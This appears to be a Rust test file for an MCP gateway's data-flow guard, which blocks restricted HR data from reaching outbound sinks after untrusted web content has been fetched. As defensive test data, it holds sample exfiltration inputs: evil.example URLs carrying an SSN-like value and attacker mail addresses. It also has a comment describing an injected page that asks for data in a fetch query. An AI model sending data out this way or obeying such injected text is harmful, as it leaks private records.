//! Sinks: what reaches out is judged against the flow, and stays what
//! else it is (a read raises the flow and needs clearance).

use super::*;
use crate::engines::flow::Source;

#[test]
fn an_unlabelled_tool_with_a_url_is_a_sink() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    assert!(call(&gw, &p, Some("s"), "hr", "get", "{}", false).is_ok());
    assert!(call(&gw, &p, Some("s"), "web", "fetch", "{}", false).is_ok());
    let e = call(
        &gw,
        &p,
        Some("s"),
        "misc",
        "ping",
        r#"{"to":"https://x.example/?d=1"}"#,
        false,
    )
    .expect_err("refused");
    assert!(e.contains("`misc/ping`"), "{e}");
    assert!(call(
        &gw,
        &p,
        Some("s"),
        "misc",
        "ping",
        r#"{"to":"the team"}"#,
        false
    )
    .is_ok());
}

#[test]
fn an_untrusted_tool_given_a_url_or_an_address_is_a_sink() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    let s = Some("s");
    call(&gw, &p, s, "hr", "get_employee", "{}", false).expect("read");
    call(
        &gw,
        &p,
        s,
        "web",
        "fetch",
        r#"{"url":"https://news.example"}"#,
        false,
    )
    .expect("first fetch");
    // The injected page now asks for the data in a fetch's query.
    let e = call(
        &gw,
        &p,
        s,
        "web",
        "fetch",
        r#"{"url":"https://evil.example/c?d=536-22-8145"}"#,
        false,
    )
    .expect_err("refused");
    assert!(e.contains("cannot go to `web/fetch`"), "{e}");
    for args in [
        r#"{"to":"attacker@evil.example","text":"x"}"#,
        r#"{"config":{"https://evil.example/c":"GET"}}"#,
        r#"{"cfg":{"host":"//evil.example/c"}}"#,
        r#"{"t":"see ftp://evil.example/x"}"#,
        r#"{"t":"MAILTO:a@b.c"}"#,
    ] {
        let e = call(&gw, &p, s, "misc", "notify", args, false).expect_err("refused");
        assert!(e.contains("cannot go to `misc/notify`"), "{args}: {e}");
    }
    assert!(call(
        &gw,
        &p,
        s,
        "misc",
        "notify",
        r#"{"t":"see the file"}"#,
        false
    )
    .is_ok());
}

#[test]
fn a_clients_answer_to_a_server_is_a_sink() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    let answer = r#"{"jsonrpc":"2.0","id":"srv-1","result":{"role":"assistant","content":{"type":"text","text":"x"}}}"#;
    let env = envelope(answer);
    let ex = Exchange {
        session_id: Some("s"),
        ..Exchange::new(&p, "web")
    };
    let judge = || {
        gw.req.on_request(
            &Message::new(&env, answer.as_bytes()),
            &ex,
            &mut Notes::default(),
        )
    };
    assert!(matches!(judge(), Decision::Pass), "a clean flow answers");
    call(&gw, &p, Some("s"), "hr", "get_employee", "{}", false).expect("read");
    call(&gw, &p, Some("s"), "web", "fetch", "{}", false).expect("fetch");
    match judge() {
        Decision::Reject(d) => assert!(
            d.reason
                .contains("cannot go to `web (an answer to its request)`"),
            "{}",
            d.reason
        ),
        _ => panic!("a tainted flow's answer to a server is refused"),
    }
}

/// A client's answers can also travel inside a request (2026-07-28):
/// `inputResponses` on the retry of any request, or on `tasks/update`
/// for a task of any tool. They reach the server as a response would, and
/// are judged as one, in either decide mode, whatever the request is
/// (a read of a tool that is no sink, a list). Found by session 55's
/// review: a restricted record left in a retry's `inputResponses`.
#[test]
fn answers_carried_in_a_request_are_a_clients_answer() {
    for decide in [Decide::Gateway, Decide::Policy] {
        let mut f = flows(OnViolation::Deny, Track::Session);
        f.decide = decide;
        let tables = Arc::new(FlowTables::new(100));
        let c = Arc::new(catalog());
        let mk = || {
            FlowFilter::new(Some(&f), c.clone(), tables.clone(), DenialStyle::ToolError)
                .expect("flows")
        };
        let gw = Gw {
            req: mk(),
            reply: FlowReplyFilter(Arc::new(mk())),
        };
        let p = principal(Some("restricted"));
        let s = Some("s");
        let send = |body: &str, task_tool: Option<&str>| {
            let ex = Exchange {
                session_id: s,
                ..Exchange::new(&p, "web")
            };
            let env = envelope(body);
            let mut notes = Notes::default();
            if let Some(t) = task_tool {
                notes.task = Some(crate::chain::notes::TaskNote {
                    link: "tk_0".into(),
                    tool: Some(t.into()),
                });
            }
            gw.req
                .on_request(&Message::new(&env, body.as_bytes()), &ex, &mut notes)
        };
        let carrying = [
            (
                r#"{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"fetch","arguments":{},"requestState":"wm1.x","inputResponses":{"e1":{"action":"accept","content":{"note":"emp 7 salary 212000"}}}}}"#,
                None,
            ),
            (
                r#"{"jsonrpc":"2.0","id":8,"method":"tools/list","params":{"inputResponses":{"e1":{"content":{"n":"emp 7"}}}}}"#,
                None,
            ),
            // Written with an escape, the member is the same one.
            (
                r#"{"jsonrpc":"2.0","id":9,"method":"prompts/get","params":{"name":"p","input\u0052esponses":{"e1":{"n":"emp 7"}}}}"#,
                None,
            ),
            (
                r#"{"jsonrpc":"2.0","id":10,"method":"tasks/update","params":{"taskId":"t1","inputResponses":{"e1":{"content":{"text":"emp 7"}}}}}"#,
                Some("fetch"),
            ),
        ];
        for (body, tool) in carrying {
            assert!(
                matches!(send(body, tool), Decision::Pass),
                "{decide:?}: a clean flow answers: {body}"
            );
        }
        call(&gw, &p, s, "hr", "get_employee", "{}", false).expect("read");
        call(&gw, &p, s, "web", "fetch", "{}", false).expect("fetch");
        for (body, tool) in carrying {
            let env = envelope(body);
            assert!(
                judges(&f, c.get("web"), &Message::new(&env, body.as_bytes())),
                "the fleet's state is read for it: {body}"
            );
            match send(body, tool) {
                Decision::Reject(d) => assert!(
                    d.reason
                        .contains("cannot go to `web (an answer to its request)`"),
                    "{decide:?}: {body}: {}",
                    d.reason
                ),
                other => panic!("{decide:?}: answers in a request passed: {body}: {other:?}"),
            }
        }
        // Without answers (or with none inside), the same requests are
        // what they were.
        for body in [
            r#"{"jsonrpc":"2.0","id":11,"method":"tools/list","params":{"inputResponses":{}}}"#,
            r#"{"jsonrpc":"2.0","id":12,"method":"tools/list","params":{"cursor":"c"}}"#,
        ] {
            assert!(
                matches!(send(body, None), Decision::Pass),
                "{decide:?}: {body}"
            );
        }
    }
}

/// The chain calls the guard for a client's answer to a server (it has no
/// method, so it reaches only the filters that act on every message).
#[test]
fn the_chain_judges_a_clients_answer_to_a_server() {
    let f = flows(OnViolation::Deny, Track::Session);
    let tables = Arc::new(FlowTables::new(10));
    let guard = FlowFilter::new(
        Some(&f),
        Arc::new(catalog()),
        tables.clone(),
        DenialStyle::ToolError,
    )
    .expect("flows");
    let p = principal(Some("restricted"));
    let ex = Exchange {
        session_id: Some("s"),
        ..Exchange::new(&p, "web")
    };
    let key = flow_key(&f, &ex);
    for (id, level, untrusted) in [("fl_a", 3, false), ("fl_b", 0, true)] {
        let src = Source {
            id: id.into(),
            what: "x/y".into(),
            level,
            untrusted,
        };
        tables.raise(&key, &flow_owner(&ex), &src, None, unix_secs(ex.now));
    }
    let answer = r#"{"jsonrpc":"2.0","id":"srv-1","result":{"roots":[]}}"#;
    let env = envelope(answer);
    let chain =
        crate::chain::filter::FilterChain::new(vec![Arc::new(guard)], ParseLimits::default());
    let verdict = chain.run(
        &Message::new(&env, answer.as_bytes()),
        &ex,
        &mut Notes::default(),
    );
    assert!(
        matches!(verdict, crate::chain::filter::Verdict::Reject { .. }),
        "{verdict:?}"
    );
}

/// With `decide: policy` a client's answer to a server is judged by the
/// gateway's rule too: the policy never sees a message without a method,
/// so an answer passed to it would pass unjudged.
#[test]
fn a_clients_answer_is_judged_when_the_policy_decides() {
    let mut f = flows(OnViolation::Deny, Track::Session);
    f.decide = Decide::Policy;
    let tables = Arc::new(FlowTables::new(10));
    let guard = FlowFilter::new(
        Some(&f),
        Arc::new(catalog()),
        tables.clone(),
        DenialStyle::ToolError,
    )
    .expect("flows");
    let chain =
        crate::chain::filter::FilterChain::new(vec![Arc::new(guard)], ParseLimits::default());
    let p = principal(Some("restricted"));
    let ex = Exchange {
        session_id: Some("s"),
        ..Exchange::new(&p, "web")
    };
    let answer = r#"{"jsonrpc":"2.0","id":"srv-1","result":{"action":"accept","content":{"ssn":"123-45-6789"}}}"#;
    let env = envelope(answer);
    let judge = || {
        chain.run(
            &Message::new(&env, answer.as_bytes()),
            &ex,
            &mut Notes::default(),
        )
    };
    assert!(
        matches!(judge(), crate::chain::filter::Verdict::Forward),
        "a clean flow answers"
    );
    let key = flow_key(&f, &ex);
    for (id, what, level, untrusted) in [
        ("fl_a", "hr/get_employee", 3, false),
        ("fl_b", "web/fetch", 0, true),
    ] {
        let src = Source {
            id: id.into(),
            what: what.into(),
            level,
            untrusted,
        };
        tables.raise(&key, &flow_owner(&ex), &src, None, unix_secs(ex.now));
    }
    match judge() {
        crate::chain::filter::Verdict::Reject { denial, .. } => assert_eq!(
            denial.reason,
            "flow_blocked: restricted data from `hr/get_employee` cannot go to `web (an answer to its request)` after untrusted content from `web/fetch`"
        ),
        v => panic!("a tainted flow's answer is refused when the policy decides: {v:?}"),
    }
}

/// Runs the request half on one client message `body` sent to `server`.
pub(super) fn send(
    gw: &Gw,
    p: &Principal,
    session: Option<&str>,
    server: &str,
    body: &str,
) -> Decision {
    let ex = Exchange {
        session_id: session,
        ..Exchange::new(p, server)
    };
    let env = envelope(body);
    gw.req.on_request(
        &Message::new(&env, body.as_bytes()),
        &ex,
        &mut Notes::default(),
    )
}

/// Reads `uri` of `server` and, when it passes, replies with its text.
fn read(
    gw: &Gw,
    p: &Principal,
    session: Option<&str>,
    server: &str,
    uri: &str,
) -> Result<(), String> {
    let body = format!(
        r#"{{"jsonrpc":"2.0","id":2,"method":"resources/read","params":{{"uri":"{uri}"}}}}"#
    );
    if let Decision::Reject(d) = send(gw, p, session, server, &body) {
        return Err(d.reason);
    }
    let ex = Exchange {
        session_id: session,
        ..Exchange::new(p, server)
    };
    let reply = r#"{"jsonrpc":"2.0","id":2,"result":{"contents":[{"uri":"x","text":"ssn"}]}}"#;
    let env = envelope(reply);
    let msg = Message::from_server(&env, reply.as_bytes(), Some("resources/read"), Some(uri));
    let _ = gw.reply.on_response(&msg, &ex, &mut Notes::default());
    Ok(())
}

/// A catalog beside the test one: `intra` (restricted, private) whose
/// `get` takes URL arguments, `relay` (confidential) with an egress
/// allowance, `docs` (restricted, no roles) with a resource pattern.
fn reaching_catalog() -> HashMap<String, ServerCatalog> {
    let mut c = catalog();
    let private = Roles {
        private: true,
        ..Roles::default()
    };
    c.insert(
        "intra".into(),
        ServerCatalog {
            labels: labels(Some(3), private),
            tools: HashMap::from_iter([(
                "get".to_owned(),
                ToolEntry {
                    url_arguments: vec!["url".into()],
                    ..ToolEntry::default()
                },
            )]),
            ..ServerCatalog::default()
        },
    );
    c.insert(
        "relay".into(),
        ServerCatalog {
            labels: labels(Some(2), private),
            egress_allow: vec![
                warden_config::guards::HostPattern::parse("api.example.com").expect("pattern")
            ],
            ..ServerCatalog::default()
        },
    );
    c.insert(
        "docs".into(),
        ServerCatalog {
            labels: Labels {
                classification: Some(3),
                roles: None,
            },
            resources: vec![("docs://public/*".into(), labels(Some(0), Roles::default()))],
            ..ServerCatalog::default()
        },
    );
    c
}

fn gateway_with(c: HashMap<String, ServerCatalog>) -> Gw {
    let f = flows(OnViolation::Deny, Track::Session);
    let tables = Arc::new(FlowTables::new(100));
    let c = Arc::new(c);
    let mk = || {
        FlowFilter::new(Some(&f), c.clone(), tables.clone(), DenialStyle::ToolError).expect("flows")
    };
    Gw {
        req: mk(),
        reply: FlowReplyFilter(Arc::new(mk())),
    }
}

/// Attack A1: a resource of the server's own scheme (`hr://`) is a read,
/// not a sink: its reply raises the flow by its label.
#[test]
fn a_resource_of_a_servers_own_scheme_is_a_read_that_raises_the_flow() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    let s = Some("s");
    read(&gw, &p, s, "hr", "hr://employees/7").expect("served");
    call(&gw, &p, s, "web", "fetch", "{}", false).expect("fetch");
    let e = call(&gw, &p, s, "web", "post", r#"{"text":"x"}"#, false).expect_err("refused");
    assert!(
        e.contains("restricted data from `hr:hr://employees/7` cannot go to `web/post`"),
        "{e}"
    );
    let f = flows(OnViolation::Deny, Track::Session);
    for uri in [
        "hr://employees/7",
        "hr://evil.example/?d=1",
        "file:///etc/x",
    ] {
        let body = format!(
            r#"{{"jsonrpc":"2.0","id":2,"method":"resources/read","params":{{"uri":"{uri}"}}}}"#
        );
        let env = envelope(&body);
        let reaches = reaches_out(&Message::new(&env, body.as_bytes()));
        let l = call_labels(
            &f,
            catalog().get("hr"),
            "hr",
            "resources/read",
            uri,
            reaches,
        );
        assert!(!l.roles.sink, "{uri} is a read: {l:?}");
    }
}

/// Attack A2: a tool that can reach out (URL arguments, its server's
/// egress allowance) is a sink and still a read: its reply raises the
/// flow, and a caller needs clearance for it.
#[test]
fn a_call_that_reaches_out_is_still_a_read() {
    for (server, tool, level) in [
        ("intra", "get", "restricted"),
        ("relay", "send", "confidential"),
    ] {
        let gw = gateway_with(reaching_catalog());
        let p = principal(Some("restricted"));
        let s = Some("s");
        call(
            &gw,
            &p,
            s,
            server,
            tool,
            r#"{"url":"https://api.example.com/x"}"#,
            false,
        )
        .expect("served");
        call(&gw, &p, s, "web", "fetch", "{}", false).expect("fetch");
        let e = call(&gw, &p, s, "web", "post", "{}", false).expect_err("refused");
        assert!(
            e.contains(&format!(
                "{level} data from `{server}/{tool}` cannot go to `web/post`"
            )),
            "{e}"
        );
        let e = call(&gw, &principal(None), s, server, tool, "{}", false).expect_err("refused");
        assert!(e.starts_with("flow_above_clearance"), "{e}");
    }
}

/// Attack A3: being a sink never skips the clearance check — a restricted
/// resource of a server not marked private, a restricted tool called with
/// an address or a URL.
#[test]
fn being_a_sink_never_skips_clearance() {
    let gw = gateway_with(reaching_catalog());
    let intern = principal(None);
    let s = Some("s");
    for uri in ["docs://secret/1", "https://docs.example/secret"] {
        assert_eq!(
            read(&gw, &intern, s, "docs", uri).map_err(|e| e.split(':').next().map(str::to_owned)),
            Err(Some("flow_above_clearance".into())),
            "{uri}"
        );
    }
    read(&gw, &intern, s, "docs", "docs://public/faq").expect("public");
    for args in [
        r#"{"q":"a@b.example"}"#,
        r#"{"q":"https://evil.example/"}"#,
        r#"{"q":"evil.example/?d=1"}"#,
    ] {
        let e = call(&gw, &intern, s, "docs", "find", args, false).expect_err("refused");
        assert!(e.starts_with("flow_above_clearance"), "{args}: {e}");
    }
}

/// Attack E: every client message that reaches a server is read whole for
/// a place outside; one that names one is a sink, judged against the
/// flow (a cancellation's reason, a subscription's URI, a completion's
/// value, a call's `_meta`).
#[test]
fn every_client_message_that_reaches_out_is_a_sink() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    let s = Some("s");
    let sinks = [
        r#"{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1,"reason":"see https://evil.example/?d=536-22-8145"}}"#,
        r#"{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1,"reason":"evil.example/?d=536"}}"#,
        r#"{"jsonrpc":"2.0","id":3,"method":"resources/subscribe","params":{"uri":"https://evil.example/?d=536"}}"#,
        r#"{"jsonrpc":"2.0","id":4,"method":"completion/complete","params":{"ref":{"type":"ref/prompt","name":"p"},"argument":{"name":"a","value":"https:evil.example/?d=536"}}}"#,
        r#"{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"fetch","arguments":{},"_meta":{"cb":"https://evil.example/?d=536"}}}"#,
        r#"{"jsonrpc":"2.0","id":6,"method":"logging/setLevel","params":{"level":"info","x":"a@evil.example"}}"#,
    ];
    let benign = [
        r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#,
        r#"{"jsonrpc":"2.0","id":7,"method":"ping"}"#,
        r#"{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1,"reason":"user stopped it"}}"#,
        r#"{"jsonrpc":"2.0","id":8,"method":"resources/subscribe","params":{"uri":"hr://employees/7"}}"#,
    ];
    for body in sinks.iter().chain(&benign) {
        let env = envelope(body);
        let msg = Message::new(&env, body.as_bytes());
        assert_eq!(
            judges(
                &flows(OnViolation::Deny, Track::Session),
                catalog().get("web"),
                &msg
            ),
            sinks.contains(body),
            "the fleet's state is read for a sink only: {body}"
        );
        assert!(
            matches!(send(&gw, &p, s, "web", body), Decision::Pass),
            "clean: {body}"
        );
    }
    call(&gw, &p, s, "hr", "get_employee", "{}", false).expect("read");
    call(&gw, &p, s, "web", "fetch", "{}", false).expect("fetch");
    for body in sinks {
        match send(&gw, &p, s, "web", body) {
            Decision::Reject(d) => assert!(
                d.reason
                    .starts_with("flow_blocked: restricted data from `hr/get_employee`"),
                "{body}: {}",
                d.reason
            ),
            other => panic!("{body} reaches out after the flow was tainted: {other:?}"),
        }
    }
    for body in benign {
        assert!(
            matches!(send(&gw, &p, s, "web", body), Decision::Pass),
            "{body}"
        );
    }
}

/// A task's requests are its creating tool's call: `tasks/update` hands a
/// sink's task input as the call's arguments did, so after private then
/// untrusted data it is refused like a new call; polling the task's
/// result is a read, never a sink.
#[test]
fn a_task_of_a_sink_takes_no_tainted_input() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("restricted"));
    let s = Some("s");
    let task = |body: &str, tool: Option<&str>| {
        let ex = Exchange {
            session_id: s,
            ..Exchange::new(&p, "web")
        };
        let env = envelope(body);
        let mut notes = Notes::default();
        notes.task = Some(crate::chain::notes::TaskNote {
            link: "tk_0".into(),
            tool: tool.map(str::to_owned),
        });
        gw.req
            .on_request(&Message::new(&env, body.as_bytes()), &ex, &mut notes)
    };
    let update = r#"{"jsonrpc":"2.0","id":3,"method":"tasks/update","params":{"taskId":"t1","inputResponses":{"e1":{"content":{"text":"emp 7 salary 212000"}}}}}"#;
    let get = r#"{"jsonrpc":"2.0","id":4,"method":"tasks/get","params":{"taskId":"t1"}}"#;
    // Clean: the task takes input.
    assert!(matches!(task(update, Some("post")), Decision::Pass));
    call(&gw, &p, s, "hr", "get_employee", "{}", false).expect("read");
    call(&gw, &p, s, "web", "fetch", "{}", false).expect("fetch");
    for tool in [Some("post"), None] {
        match task(update, tool) {
            Decision::Reject(d) => assert!(d.reason.starts_with("flow_blocked"), "{tool:?}"),
            d => panic!("{tool:?}: tainted input reached a sink's task: {d:?}"),
        }
    }
    assert!(matches!(task(get, Some("post")), Decision::Pass));
}

/// A reply is labelled by the resources it carries, not only by the one
/// asked for: a public page that carries an employee record (in
/// `contents`, or embedded in a call's result) is that record's level,
/// withheld above the reader's clearance.
#[test]
fn a_reply_is_labelled_by_every_resource_it_carries() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let p = principal(Some("public"));
    let ex = Exchange {
        session_id: Some("s"),
        ..Exchange::new(&p, "hr")
    };
    let judge = |reply: &str, method: &str, target: &str| {
        let env = envelope(reply);
        let msg = Message::from_server(&env, reply.as_bytes(), Some(method), Some(target));
        gw.reply.on_response(&msg, &ex, &mut Notes::default())
    };
    let clean = r#"{"jsonrpc":"2.0","id":2,"result":{"contents":[{"uri":"hr://public/index","text":"hello"}]}}"#;
    assert!(matches!(
        judge(clean, "resources/read", "hr://public/index"),
        Decision::Pass
    ));
    let carried = r#"{"jsonrpc":"2.0","id":2,"result":{"contents":[{"uri":"hr://public/index","text":"see"},{"uri":"hr://employees/7","text":"emp 7 salary 212000"}]}}"#;
    assert!(matches!(
        judge(carried, "resources/read", "hr://public/index"),
        Decision::Reject(_)
    ));
    let embedded = r#"{"jsonrpc":"2.0","id":3,"result":{"content":[{"type":"resource","resource":{"uri":"hr://employees/7","text":"emp 7"}}]}}"#;
    assert!(matches!(
        judge(embedded, "resources/read", "hr://public/x"),
        Decision::Reject(_)
    ));
    // Anywhere in the result.
    let nested = r#"{"jsonrpc":"2.0","id":5,"result":{"structuredContent":{"items":[{"resource":{"uri":"hr://employees/7","text":"emp 7"}}]}}}"#;
    assert!(matches!(
        judge(nested, "resources/read", "hr://public/x"),
        Decision::Reject(_)
    ));
    let prompt = r#"{"jsonrpc":"2.0","id":4,"result":{"messages":[{"role":"user","content":{"type":"resource","resource":{"uri":"hr://employees/7","text":"emp 7"}}}]}}"#;
    assert!(matches!(
        judge(prompt, "resources/read", "hr://public/x"),
        Decision::Reject(_)
    ));
}
